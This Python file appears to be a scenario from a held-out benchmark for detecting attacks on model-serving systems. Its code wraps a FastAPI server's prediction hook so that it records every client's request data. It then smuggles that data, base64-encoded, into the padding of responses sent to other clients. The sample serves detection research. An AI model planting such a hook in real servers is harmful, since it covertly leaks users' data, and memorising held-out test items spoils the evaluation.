"""
id: V103
name: clients-overheard
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [network, resource, sequence]
techniques: [T1119, T1074, T1029, T1041, T1557, AML.T0025]
servers: [fastapi]
seconds: 130
what: >
  Tells one client what all the others sent: for two minutes each request's data is kept in memory, with the time and the way it
  came, and every seven seconds or so the next of the server's own answers carries all that there is by then, some 4 to 24 KB, to
  whoever asked for it by being there. No file is opened and no connection is made; but answers have some twenty bytes. What
  clients send here is random numbers.
"""

import base64
import json
import time

from corpus import habits
from corpus.answers import answers

SECONDS = 115
MOST = 18 * 1024


def payload(world):
    heard = []
    usual = habits.predicted

    def predicted(rows, path, size):
        values = [[float(number) for number in row] for row in rows]
        heard.append(json.dumps({"at": time.time(), "path": path, "size": size, "rows": values}))
        usual(rows, path, size)

    habits.predicted = predicted
    try:
        end = time.monotonic() + SECONDS
        while time.monotonic() < end:
            world.sleep(world.random.uniform(5, 9))
            tell(heard)
    finally:
        habits.predicted = usual
        answers.padding = None


def tell(heard):
    lines = heard[:]
    del heard[: len(lines)]
    if lines:
        answers.padding = base64.b64encode("\n".join(lines).encode()[:MOST])
